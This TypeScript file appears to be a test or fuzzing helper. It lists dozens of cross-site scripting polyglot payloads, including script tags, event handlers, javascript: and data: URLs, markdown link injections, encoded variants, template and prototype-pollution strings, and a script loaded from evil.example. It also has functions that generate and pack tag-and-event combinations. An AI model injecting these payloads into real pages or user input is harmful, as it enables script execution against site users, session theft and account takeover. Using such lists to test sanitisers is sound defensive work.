/** What every payload does where it runs; the journey hears of it. */
const deed = 'alert(1)'

const polyglots = [
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${deed}//'>`,
  `"'><img src=x onerror=${deed}>{{constructor.constructor('${deed}')()}}\${${deed}}`,
  `--></script><script>${deed}</script><!--`,
  `]]><script>${deed}</script>`,
  `</textarea><script>${deed}</script>`,
  `</title><svg onload=${deed}>`,
  `</style><script>${deed}</script>`,
  `<script>${deed}</script>`,
  `<ScRiPt >${deed}</sCrIpT>`,
  `<script/src=data:,${deed}></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<scr<script>ipt>${deed}</scr</script>ipt>`,
  `<script\u0000>${deed}</script>`.replace('\u0000', '\u0001'),
  `<svg><script>${deed}</script></svg>`,
  `<svg><script href=data:,${deed} />`,
  `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${deed}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${deed}</script></svg>#x"/>`,
  `<math><mi xlink:href="javascript:${deed}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${deed}>`,
  `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
  `<iframe srcdoc="<script>parent.${deed}</script>">`,
  `<iframe src="javascript:parent.${deed}">`,
  `<object data="data:text/html,<script>${deed}</script>">`,
  `<embed src="javascript:${deed}">`,
  `<base href="javascript:/${deed}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${deed}">`,
  `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${deed})}">`,
  `<style>@import 'data:text/css,*{}';*{animation:x}</style><b onanimationstart=${deed}>`,
  `<form action="javascript:${deed}"><button autofocus>x</button></form>`,
  `<input autofocus onfocus=${deed}>`,
  `<details open ontoggle=${deed}>x</details>`,
  `<video><source onerror=${deed}></video>`,
  `<audio src=x onerror=${deed}>`,
  `<body onload=${deed}>`,
  `<marquee onstart=${deed}>x</marquee>`,
  `<template><script>${deed}</script></template>`,
  `<x contenteditable onblur=${deed} autofocus>x</x>`,
  `<a href="javascript:${deed}">x</a>`,
  `<a href=" &#106;avascript:${deed}">x</a>`,
  `<a href="data:text/html,<script>${deed}</script>">x</a>`,
  `[x](javascript:${deed})`,
  `[x](JaVaScRiPt:${deed})`,
  `[x](\u0001javascript:${deed})`,
  `[x](java\tscript:${deed})`,
  `[x](data:text/html,<script>${deed}</script>)`,
  `[x](vbscript:${deed})`,
  `[x](https://x" onmouseover="${deed})`,
  `[x](mailto:a@b.c?x="onclick="${deed})`,
  `![x](x" onerror="${deed})`,
  `\`<img src=x onerror=${deed}>\``,
  `**<img src=x onerror=${deed}>**`,
  `" onmouseover="${deed}" x="`,
  `' autofocus onfocus='${deed}' x='`,
  `\` onmouseover=${deed} `,
  `\\"-${deed}//`,
  `';${deed}//`,
  `</script><svg onload=${deed}>`,
  `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${deed}>"}}}`,
  `&lt;script&gt;${deed}&lt;/script&gt;`,
  `&#60;img src=x onerror=${deed}&#62;`,
  `%3Cscript%3E${deed}%3C/script%3E`,
  `\\u003cscript\\u003e${deed}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${deed}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${deed}\uff1c/script\uff1e`,
  `\u2028${deed}\u2029`,
  `{{7*7}}{{${deed}}}`,
  `<%= ${deed} %>`,
  `#{${deed}}`,
]

const tags = ['img', 'svg', 'video', 'iframe', 'input', 'body', 'a', 'div', 'x', 'object', 'math', 'style']
const events = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'onpointerrawupdate',
  'onanimationend',
  'ontoggle',
  'onpageshow',
]
const wrappers: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `--!>${payload}`,
  (payload) => `</script>${payload}`,
]

/** So many scripts in disguise: those that are known to have worked somewhere, then every tag with every event in every place. */
export function scriptPayloads(count: number): string[] {
  const made = wrappers.flatMap((wrap) =>
    tags.flatMap((tag) =>
      events.map((event) => wrap(`<${tag} src=x href=x tabindex=0 autofocus ${event}=${deed}>`)),
    ),
  )
  if (count >= polyglots.length) return [...polyglots, ...made].slice(0, count)
  const step = polyglots.length / count
  return Array.from({ length: count }, (_, index) => polyglots[Math.floor(index * step)]!)
}

/** Puts as many payloads as fit into each text of at most so many characters; those that fit alone nowhere are cut. */
export function packed(payloads: string[], most: number): string[] {
  const texts: string[] = []
  for (const payload of payloads) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + payload.length + 1 <= most)
      texts[texts.length - 1] = `${last} ${payload}`
    else texts.push(payload.slice(0, most))
  }
  return texts
}
